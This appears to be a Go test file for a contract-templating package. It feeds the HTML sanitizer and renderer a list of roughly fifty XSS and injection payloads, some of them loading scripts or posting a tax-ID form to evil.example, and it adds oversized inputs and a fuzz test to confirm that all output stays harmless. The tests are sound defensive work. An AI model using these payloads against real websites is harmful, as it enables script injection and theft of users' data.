package paper

import (
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

// payloads are what people with bad intentions, other programs and old pages put into texts.
func payloads() []string {
	return []string{
		`<script>alert(1)</script>`,
		`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
		`<scr<script>ipt>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`,
		`<img src="https://evil.example/pixel.gif">`,
		`<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
		`<svg onload=alert(1)>`,
		`<svg><style><img src=x onerror=alert(1)></style></svg>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<iframe src="javascript:alert(1)"></iframe>`,
		`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
		`<object data="https://evil.example/x.swf"></object>`,
		`<embed src="https://evil.example/x">`,
		`<a href="javascript:alert(1)">clique</a>`,
		`<a href="//evil.example" ping="//evil.example/p">x</a>`,
		`<p style="background:url(//evil.example/x)">x</p>`,
		`<p style="position:fixed;inset:0" onclick="alert(1)">x</p>`,
		`<style>@import "//evil.example/x.css"; p{display:none}</style>`,
		`<link rel=stylesheet href="//evil.example/x.css">`,
		`<meta http-equiv="refresh" content="0;url=//evil.example">`,
		`<base href="//evil.example/">`,
		`<form action="//evil.example"><input name=cpf><button>Enviar</button></form>`,
		`<input autofocus onfocus=alert(1)>`,
		`<textarea></p><script>alert(1)</script></textarea>`,
		`<title><img src=x onerror=alert(1)></title>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
		`<xmp><img src=x onerror=alert(1)></xmp>`,
		`<plaintext><img src=x onerror=alert(1)>`,
		`<template><script>alert(1)</script></template>`,
		`<body onload=alert(1)>`,
		`<video><source onerror=alert(1)></video>`,
		`<audio src="//evil.example/a.mp3" autoplay></audio>`,
		`<details open ontoggle=alert(1)><summary>x</summary></details>`,
		`<p hx-get="/sair" hx-trigger="load" data-hx-get="/x">x</p>`,
		`<hx-partial hx-target="body">x</hx-partial>`,
		`<p id="main" name="csrf" class="danger menu">x</p>`,
		`<td background="//evil.example/x">x</td><table background="//evil.example/y"><tr><td>y</td></tr></table>`,
		`</section></article></body></html><script>alert(1)</script>`,
		`<!--><script>alert(1)</script-->`,
		`<![CDATA[<script>alert(1)</script>]]>`,
		`<?xml version="1.0"?><script>alert(1)</script>`,
		"<img src=x\x00onerror=alert(1)>",
		"\xff<script>alert(1)</script>\xc0",
		`<p class="align-left" onmouseover="alert(1)" class="x">x</p>`,
		`<span data-var="nome_cliente" onclick=alert(1) style="color:red">x</span>`,
		`<span data-var='cpf"><script>alert(1)</script>'>x</span>`,
		`<div data-if="cpf"><script>alert(1)</script></div>`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`,
		`&#60;img src=x onerror=alert(1)&#62;`,
		`$cpf $nome_cliente_pai <span data-var="cpf">$cpf</span> {{.Customer.TaxID}} <%= 1 %> ${7*7}`,
		`[se $cpf]`,
		"\u202egnp.exe <b>x</b>\u0007",
		`<portal src="//evil.example"></portal><frameset><frame src="//evil.example"></frameset>`,
	}
}

var (
	mayStand = []string{
		"p", "br", "hr", "h1", "h2", "h3", "strong", "em", "u", "s", "sub", "sup", "ul", "ol", "li", "blockquote", "table",
		"caption", "thead", "tbody", "tfoot", "tr", "th", "td", "div", "span", "article", "header", "footer", "section",
	}
	mayHold = map[string]*regexp.Regexp{
		"class":    regexp.MustCompile(`^(align-(left|center|right|justify)|page-break|draft-note|list|missing|blank|clause|signatures?|paper(-head|-text|-foot)?)$`),
		"data-var": regexp.MustCompile(`^[\pL\pM\pN_]+$`),
		"data-if":  regexp.MustCompile(`^!?[\pL\pM\pN_]+$`),
		"colspan":  regexp.MustCompile(`^\d+$`), "rowspan": regexp.MustCompile(`^\d+$`), "start": regexp.MustCompile(`^\d+$`),
	}
)

// harmless reads a text as a browser does and complains of all that is not on the list.
func harmless(t *testing.T, where, text string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader("<!doctype html><body>" + text))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		switch {
		case n.Type == html.CommentNode:
			t.Errorf("%s: a comment in %q", where, text)
		case n.Type != html.ElementNode || n.Data == "html" || n.Data == "head" || n.Data == "body":
			continue
		case n.Namespace != "" || !slices.Contains(mayStand, n.Data):
			t.Errorf("%s: <%s> in %q", where, n.Data, text)
		}
		for _, a := range n.Attr {
			if allowed, known := mayHold[a.Key]; !known || !allowed.MatchString(a.Val) {
				t.Errorf("%s: %s=%q in %q", where, a.Key, a.Val, text)
			}
		}
	}
}

// everything fills every value of a customer with one text.
func everything(payload string) Facts {
	f := person()
	f.Customer.Name, f.Customer.MotherName, f.Customer.Code, f.Customer.TaxID = payload, payload, payload, payload
	f.Registered.Street, f.Installation.Reference, f.User = payload, payload, payload
	f.Equipment[0].Product, f.Equipment[1].Mode = payload, payload
	f.Provider.Name, f.Provider.Site, f.Order.Description = payload, payload, payload
	f.Contract.Number, f.Permanence.Benefit = payload, payload
	return f
}

// As a template, as an edited text and as a paste into the source.
func TestHostileTexts(t *testing.T) {
	if len(payloads()) < 40 {
		t.Fatalf("%d payloads", len(payloads()))
	}
	f := person()
	for _, payload := range payloads() {
		for _, text := range []string{payload, "<p>" + payload + "</p>", "<table><tr><td>" + payload + "</td></tr></table>", "<ul><li>" + payload} {
			clean, err := Clean(text)
			if err != nil {
				t.Errorf("%q: %v", text, err)
				continue
			}
			harmless(t, "cleaned", clean)
			if again, err := Clean(clean); err != nil || again != clean {
				t.Errorf("cleaned twice: %q, then %q, %v", clean, again, err)
			}
			sheet, err := Compose(clean, SheetOf(KindContract, &f, "Minuta 1"))
			if err != nil {
				t.Fatal(err)
			}
			harmless(t, "composed", sheet)
			draft, err := Prepare(text)
			if err != nil {
				continue // a block without its end
			}
			harmless(t, "prepared", draft.HTML)
			if rendered, err := Render(draft.HTML, &f); err == nil {
				harmless(t, "rendered", rendered.HTML)
			}
		}
	}
}

// As names and texts of the register: they come out as they were typed, and bring no element.
func TestHostileValues(t *testing.T) {
	count := func(text, tag string) int { return strings.Count(text, "<"+tag) }
	for _, s := range ShippedTemplates() {
		d := draftOf(t, s.Source)
		plainFacts := everything("Maria")
		want := render(t, d.HTML, plainFacts)
		for _, payload := range payloads() {
			f := everything(payload)
			r := render(t, d.HTML, f)
			harmless(t, s.Kind, r.HTML)
			for _, tag := range []string{"p>", "strong", "table", "td", "span", "div", "h1"} {
				if count(r.HTML, tag) != count(want.HTML, tag) {
					t.Errorf("%s: %q changes the number of <%s", s.Kind, payload, tag)
				}
			}
			frozen, err := Freeze(r.HTML, SheetOf(s.Kind, &f, payload))
			if err != nil {
				t.Fatal(err)
			}
			harmless(t, "frozen", frozen.HTML)
			if !frozen.Intact() {
				t.Errorf("%s: %q is not intact after it was frozen", s.Kind, payload)
			}
			if typed := html.EscapeString(strings.TrimSpace(printable(payload))); s.Kind == KindContract && !strings.Contains(r.HTML, typed) {
				t.Errorf("%q is not written as it was typed", payload)
			}
			page, err := Page{Title: payload, Composed: []string{frozen.HTML}}.Document()
			if err != nil || strings.Count(string(page), "<script") != 0 || strings.Count(string(page), "</title>") != 1 {
				t.Errorf("%q gets into the page (%v)", payload, err)
			}
		}
	}
}

// A value is never looked at for names: what a customer is called changes no contract.
func TestValuesAreNotTemplates(t *testing.T) {
	f := person()
	f.Customer.Name = `$cpf <span data-var="cpf">x</span> [se $cpf]`
	r := render(t, draftOf(t, "<p>$nome_cliente</p>").HTML, f)
	again := render(t, r.HTML, f)
	if strings.Contains(again.HTML, "529.982") || again.HTML != r.HTML {
		t.Errorf("a name was taken for a template: %q", again.HTML)
	}
}

// Texts that are made to be slow or large are refused, or done with, in time.
func TestHostileSizes(t *testing.T) {
	f := person()
	var tags strings.Builder
	for i := range 400 {
		tags.WriteString("<b class=a" + strings.Repeat("x", i%7) + "><i><u><s>")
	}
	for name, text := range map[string]string{
		"one long line":     strings.Repeat("a", maxText),
		"open formatting":   tags.String() + strings.Repeat("<p>x", 50_000),
		"deep":              strings.Repeat("<blockquote>", 20_000),
		"deep lists":        strings.Repeat("<ul><li>", 20_000),
		"tables in tables":  strings.Repeat("<table><tr><td>", 10_000),
		"foster":            strings.Repeat("<table>x", 20_000),
		"open tags":         strings.Repeat("<", maxText),
		"attributes":        "<p " + strings.Repeat(`class="x" `, 20_000) + ">",
		"entities":          strings.Repeat("&amp", 50_000),
		"many names":        strings.Repeat("$nome_cliente ", 15_000),
		"unknown names":     strings.Repeat("$x", 2) + strings.Repeat("$nome_de_ninguem ", 10_000),
		"many tables":       strings.Repeat("<p>$tabela_equipamentos</p>", 9_000),
		"too large":         strings.Repeat("<p>x</p>", 100_000),
		"unclosed comments": strings.Repeat("<!--", 50_000),
		"blocks":            strings.Repeat("<p>[se $cpf]</p>", 10_000) + strings.Repeat("<p>[fim]</p>", 10_000),
	} {
		begin := time.Now()
		d, err := Prepare(text)
		if err == nil {
			var r Rendered
			if r, err = Render(d.HTML, &f); err == nil {
				_, err = Compose(r.HTML, SheetOf(KindContract, &f, ""))
				if len(r.HTML) > 3*maxPaper {
					t.Errorf("%s: %d bytes", name, len(r.HTML))
				}
			}
		}
		took := time.Since(begin)
		t.Logf("%-18s %6d ms  %v", name, took.Milliseconds(), err)
		if took > 10*time.Second {
			t.Errorf("%s took %v", name, took)
		}
	}
}

// Whatever is cleaned is harmless, and stays as it is when it is cleaned again.
func FuzzClean(f *testing.F) {
	for _, p := range payloads() {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, text string) {
		clean, err := Clean(text)
		if err != nil {
			return
		}
		harmless(t, "cleaned", clean)
		if again, err := Clean(clean); err != nil || again != clean {
			t.Errorf("%q, then %q, %v", clean, again, err)
		}
	})
}
